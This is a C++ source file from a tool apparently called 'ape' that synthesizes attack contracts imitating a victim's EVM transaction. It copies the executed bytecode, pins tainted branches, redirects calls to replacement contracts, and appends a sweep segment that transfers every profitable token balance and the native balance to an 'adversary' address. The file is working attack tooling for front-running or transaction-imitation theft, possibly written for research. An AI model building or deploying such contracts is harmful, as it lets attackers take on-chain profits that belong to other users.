// ape: transaction imitation engine for EVM-style bytecode
// Copyright 2026 The ape authors.
// Licensed under the Apache License, Version 2.0.

#include "ape/synth.hpp"

#include <algorithm>

#include "ape/assembler.hpp"
#include "ape/contracts.hpp"
#include "ape/opcodes.hpp"

namespace ape
{
SizeReduction size_reduction(BytesView victim_code, BytesView synth_code)
{
    if (victim_code.empty())
        throw ZeroLengthVictim("size reduction of an empty victim");
    SizeReduction r;
    r.numerator = (SignedWei(victim_code.size()) - SignedWei(synth_code.size())) * 100;
    r.denominator = victim_code.size();
    return r;
}

namespace
{
constexpr uint64_t kSweepTarget = UINT64_MAX;  // relocation sentinel for the sweep segment
constexpr uint64_t kSweepScratch = 0x8000;     // memory scratch area for sweep calls

unsigned byte_width(uint64_t v)
{
    unsigned w = 1;
    while (v >> (8 * w))
        ++w;
    return w;
}

struct Item
{
    enum Kind
    {
        Verbatim,
        RelocPush,   // PUSH whose immediate is a code offset to remap
        SweepJump,   // PUSH+JUMP replacing the final terminator
        Blob,        // raw bytes (pin sequences, sweep segment, padding stop)
    };

    Kind kind = Verbatim;
    uint64_t old_pc = UINT64_MAX;  // anchor in victim code, if any
    Bytes bytes;
    uint64_t target_old = 0;  // RelocPush / SweepJump
    unsigned width = 0;
    bool dead_target = false;
};

Bytes encode_push(const Word& value, unsigned width)
{
    Bytes out;
    out.push_back(push_op(width));
    auto b = to_bytes32(value);
    out.insert(out.end(), b.end() - width, b.end());
    return out;
}

Bytes sweep_segment(const std::vector<Address>& tokens, bool sweep_native,
                    const Address& adversary, BytesView original_terminator)
{
    Assembler a;
    a.op(OP_JUMPDEST);
    for (const Address& token : tokens)
    {
        // balance = token.balanceOf(address(this))
        a.push(canned::selector_word("balanceOf(address)"), 32).push(kSweepScratch).op(OP_MSTORE);
        a.op(OP_ADDRESS).push(kSweepScratch + 4).op(OP_MSTORE);
        a.push(0x20).push(kSweepScratch + 0x40).push(0x24).push(kSweepScratch);
        a.push_address(token).op(OP_GAS).op(OP_STATICCALL).op(OP_POP);
        // token.transfer(adversary, balance)
        a.push(canned::selector_word("transfer(address,uint256)"), 32)
            .push(kSweepScratch)
            .op(OP_MSTORE);
        a.push_address(adversary).push(kSweepScratch + 4).op(OP_MSTORE);
        a.push(kSweepScratch + 0x40).op(OP_MLOAD).push(kSweepScratch + 0x24).op(OP_MSTORE);
        a.push(0).push(0).push(0x44).push(kSweepScratch).push(0);
        a.push_address(token).op(OP_GAS).op(OP_CALL).op(OP_POP);
    }
    if (sweep_native)
    {
        a.push(0).push(0).push(0).push(0).op(OP_SELFBALANCE);
        a.push_address(adversary).op(OP_GAS).op(OP_CALL).op(OP_POP);
    }
    a.raw(original_terminator);
    return a.assemble();
}
}  // namespace

Bytes deployment_init_code(BytesView runtime, const std::map<Word, Word>& storage_init)
{
    Assembler a;
    for (const auto& [slot, value] : storage_init)
    {
        a.push(value, 32);
        a.push(slot, 32);
        a.op(OP_SSTORE);
    }
    a.push(runtime.size(), 2);
    a.push_label("runtime");
    a.push(0, 1);
    a.op(OP_CODECOPY);
    a.push(runtime.size(), 2);
    a.push(0, 1);
    a.op(OP_RETURN);
    a.label("runtime");
    a.raw(runtime);
    return a.assemble();
}

std::vector<SynthesizedContract> synthesize(const PatchPlan& plan, const DCFG& dcfg,
                                            const TaintReport& taint,
                                            const ProfitReport& profit,
                                            const StateFixture& fixture,
                                            const Address& adversary, uint64_t next_nonce)
{
    if (plan.abort != PatchAbort::None)
        throw SynthesisError(std::string("plan aborted: ") + patch_abort_name(plan.abort));

    // replacement addresses first, so cross-references can be embedded
    std::map<Address, Address> replacement;
    for (size_t i = 0; i < plan.replace_set.size(); ++i)
        replacement[plan.replace_set[i].victim] = create_address(adversary, next_nonce + i);

    std::vector<SynthesizedContract> out;

    for (const PatchEntry& entry : plan.replace_set)
    {
        const Address victim = entry.victim;
        const Account* victim_acc = fixture.state.find(victim);
        if (!victim_acc || victim_acc->code.empty())
            throw SynthesisError("replacement member has no code: " + to_hex(victim));
        const Bytes& code = victim_acc->code;
        BytesView code_view{code.data(), code.size()};

        SynthesizedContract sc;
        sc.victim = victim;
        sc.deployed = replacement.at(victim);

        auto trace_it = dcfg.contracts.find(victim);
        static const ContractTrace empty_trace;
        const ContractTrace& ct =
            trace_it == dcfg.contracts.end() ? empty_trace : trace_it->second;

        // tainted branches in this contract, pinned to the victim direction
        std::map<uint64_t, bool> pins;
        for (const TaintedBlock& tb : taint.tainted_blocks)
        {
            if (tb.block.contract != victim)
                continue;
            if (dcfg.bi_branch_pcs(victim).count(tb.jumpi_pc))
                throw BiBranchBlock("branch at pc " + std::to_string(tb.jumpi_pc) +
                                    " took both directions in the victim run");
            pins[tb.jumpi_pc] = tb.victim_condition;
        }

        for (uint64_t pc : ct.computed_jump_pcs)
            if (!pins.count(pc))
                throw ComputedJumpUnresolved("jump at pc " + std::to_string(pc) +
                                             " has no PUSH-derived destination");

        // PUSH sites that feed calls into replaced contracts
        std::map<uint64_t, Address> redirect_push;
        for (const CallEdge& e : dcfg.call_edges)
        {
            if (e.caller_block.contract != victim)
                continue;
            auto rep = replacement.find(e.callee);
            if (rep == replacement.end())
                continue;
            if (e.target_provenance.tag == ProvenanceTag::CodeConstant)
            {
                redirect_push[word_to_u64_clamped(e.target_provenance.detail)] = rep->second;
                sc.address_rewrites[e.callee] = rep->second;
            }
        }

        // executed byte ranges, merged into maximal segments
        std::vector<std::pair<uint64_t, uint64_t>> ranges;  // [start, end) in bytes
        for (const auto& [start, end_pc] : ct.blocks)
        {
            if (end_pc >= code.size())
                continue;
            Instruction last = decode_instruction(code_view, end_pc);
            ranges.emplace_back(start, end_pc + last.size);
        }
        std::sort(ranges.begin(), ranges.end());
        std::vector<std::pair<uint64_t, uint64_t>> segments;
        for (const auto& r : ranges)
        {
            if (!segments.empty() && r.first <= segments.back().second)
                segments.back().second = std::max(segments.back().second, r.second);
            else
                segments.push_back(r);
        }

        // executed JUMPDEST offsets, for the static relocation fallback
        std::set<uint64_t> executed_jumpdests;
        for (const auto& [start, end_pc] : ct.blocks)
        {
            (void)end_pc;
            if (start < code.size() && code[start] == OP_JUMPDEST)
                executed_jumpdests.insert(start);
        }

        // final executed block hosts the revenue sweep
        sc.sweep_native = false;
        for (const Address& tok : [&] {
            std::map<Address, SignedWei> net;
            SignedWei native = 0;
            for (const AssetTransfer& t : profit.transfers)
            {
                SignedWei signed_amt = SignedWei(t.amount);
                if (t.token)
                {
                    if (t.to == victim)
                        net[*t.token] += signed_amt;
                    if (t.from == victim)
                        net[*t.token] -= signed_amt;
                }
                else
                {
                    if (t.to == victim)
                        native += signed_amt;
                    if (t.from == victim)
                        native -= signed_amt;
                }
            }
            sc.sweep_native = native > 0;
            std::vector<Address> tokens;
            for (const auto& [token, n] : net)
                if (n > 0)
                    tokens.push_back(token);
            return tokens;
        }())
            sc.sweep_assets.push_back(tok);

        bool wants_sweep = entry.reason == PatchReason::Beneficiary &&
                           (!sc.sweep_assets.empty() || sc.sweep_native);
        uint64_t sweep_anchor_pc = UINT64_MAX;  // terminator to reroute
        if (wants_sweep && !ct.block_sequence.empty())
        {
            uint64_t final_start = ct.block_sequence.back();
            uint64_t best = 0;
            bool found = false;
            for (const auto& [start, end_pc] : ct.blocks)
            {
                if (start == final_start && (!found || end_pc > best))
                {
                    best = end_pc;
                    found = true;
                }
            }
            if (found)
                sweep_anchor_pc = best;
        }

        // build the item list
        std::vector<Item> items;
        Bytes original_terminator;
        for (const auto& [seg_start, seg_end] : segments)
        {
            bool falls_off = true;  // whether control can run past the segment
            for (uint64_t pc = seg_start; pc < seg_end;)
            {
                Instruction ins = decode_instruction(code_view, pc);
                uint64_t next = pc + ins.size;
                falls_off = !is_terminator(ins.op);

                if (auto pin = pins.find(pc); pin != pins.end() && ins.op == OP_JUMPI)
                {
                    Item it;
                    it.kind = Item::Blob;
                    it.old_pc = pc;
                    it.bytes = pin->second ? Bytes{OP_SWAP1, OP_POP, OP_JUMP}
                                           : Bytes{OP_POP, OP_POP};
                    falls_off = !pin->second;
                    items.push_back(std::move(it));
                }
                else if (pc == sweep_anchor_pc && is_terminator(ins.op))
                {
                    original_terminator.assign(code.begin() + pc, code.begin() + next);
                    Item it;
                    it.kind = Item::SweepJump;
                    it.old_pc = pc;
                    it.target_old = kSweepTarget;
                    it.width = 2;
                    items.push_back(std::move(it));
                    falls_off = false;
                }
                else if (is_push(ins.op))
                {
                    Item it;
                    it.old_pc = pc;
                    uint64_t imm = word_to_u64_clamped(ins.immediate);
                    auto redir = redirect_push.find(pc);
                    bool dynamic_target = ct.jump_source_pushes.count(pc) != 0;
                    bool static_target =
                        ins.immediate <= 0xffff && executed_jumpdests.count(imm) != 0;
                    if (redir != redirect_push.end())
                    {
                        it.kind = Item::Verbatim;
                        it.bytes = encode_push(word_from_address(redir->second), 20);
                    }
                    else if (dynamic_target || static_target)
                    {
                        it.kind = Item::RelocPush;
                        it.target_old = imm;
                        it.width = push_size(ins.op);
                        it.bytes = Bytes(code.begin() + pc, code.begin() + next);
                    }
                    else
                    {
                        it.bytes = Bytes(code.begin() + pc, code.begin() + next);
                    }
                    items.push_back(std::move(it));
                }
                else
                {
                    Item it;
                    it.old_pc = pc;
                    it.bytes = Bytes(code.begin() + pc, code.begin() + next);
                    items.push_back(std::move(it));
                }
                pc = next;
            }
            // JUMPI fall-throughs stay inside a segment, so only a cut-off
            // tail (implicit stop at the end of code) can run over
            if (falls_off)
            {
                Item stop;
                stop.kind = Item::Blob;
                stop.bytes = {OP_STOP};
                items.push_back(std::move(stop));
            }
        }

        if (wants_sweep && sweep_anchor_pc == UINT64_MAX && segments.empty())
        {
            // never-invoked beneficiary: the whole body is the sweep
            Item it;
            it.kind = Item::Blob;
            it.bytes = sweep_segment(sc.sweep_assets, sc.sweep_native, adversary, Bytes{OP_STOP});
            items.push_back(std::move(it));
            wants_sweep = false;
        }

        Bytes sweep;
        if (wants_sweep)
            sweep = sweep_segment(sc.sweep_assets, sc.sweep_native, adversary,
                                  original_terminator.empty() ? Bytes{OP_STOP}
                                                              : original_terminator);

        // lay out, widening relocation pushes until offsets stabilize
        std::map<uint64_t, uint64_t> new_offset;  // old pc -> new pc
        uint64_t sweep_offset = 0;
        for (int iter = 0;; ++iter)
        {
            if (iter > 64)
                throw SynthesisError("relocation did not converge");
            new_offset.clear();
            uint64_t pc = 0;
            for (const Item& it : items)
            {
                if (it.old_pc != UINT64_MAX)
                    new_offset[it.old_pc] = pc;
                pc += (it.kind == Item::RelocPush || it.kind == Item::SweepJump)
                          ? 1 + it.width + (it.kind == Item::SweepJump ? 1 : 0)
                          : it.bytes.size();
            }
            sweep_offset = pc;

            bool changed = false;
            for (Item& it : items)
            {
                if (it.kind != Item::RelocPush && it.kind != Item::SweepJump)
                    continue;
                uint64_t target_new;
                if (it.target_old == kSweepTarget)
                {
                    target_new = sweep_offset;
                }
                else if (auto f = new_offset.find(it.target_old); f != new_offset.end())
                {
                    target_new = f->second;
                }
                else
                {
                    it.dead_target = true;  // dead push (e.g. behind a pinned fall-through)
                    continue;
                }
                unsigned need = byte_width(target_new);
                if (need > it.width)
                {
                    it.width = need;
                    changed = true;
                }
            }
            if (!changed)
                break;
        }

        // bake the final bytes
        Bytes runtime;
        for (const Item& it : items)
        {
            switch (it.kind)
            {
            case Item::RelocPush: {
                if (it.dead_target)
                {
                    runtime.insert(runtime.end(), it.bytes.begin(), it.bytes.end());
                    break;
                }
                uint64_t target =
                    it.target_old == kSweepTarget ? sweep_offset : new_offset.at(it.target_old);
                Bytes enc = encode_push(target, it.width);
                runtime.insert(runtime.end(), enc.begin(), enc.end());
                break;
            }
            case Item::SweepJump: {
                Bytes enc = encode_push(sweep_offset, it.width);
                runtime.insert(runtime.end(), enc.begin(), enc.end());
                runtime.push_back(OP_JUMP);
                break;
            }
            default:
                runtime.insert(runtime.end(), it.bytes.begin(), it.bytes.end());
                break;
            }
        }
        runtime.insert(runtime.end(), sweep.begin(), sweep.end());

        // replicate every loaded slot; values holding replaced addresses
        // point at the replacements instead
        for (const Word& slot : ct.sloaded_slots)
        {
            auto sit = victim_acc->storage.find(slot);
            if (sit == victim_acc->storage.end())
                continue;
            Word value = sit->second;
            if (auto as_addr = address_from_word(value))
            {
                auto rep = replacement.find(*as_addr);
                if (rep != replacement.end())
                {
                    sc.address_rewrites[*as_addr] = rep->second;
                    value = word_from_address(rep->second);
                }
            }
            if (value != 0)
                sc.storage_init[slot] = value;
        }

        for (const auto& [start, end_pc] : ct.blocks)
        {
            (void)end_pc;
            if (auto f = new_offset.find(start); f != new_offset.end())
                sc.block_offsets[start] = f->second;
        }

        sc.runtime_code = std::move(runtime);
        sc.reduction = size_reduction(code_view,
                                      BytesView{sc.runtime_code.data(), sc.runtime_code.size()});
        out.push_back(std::move(sc));
    }

    return out;
}

}  // namespace ape
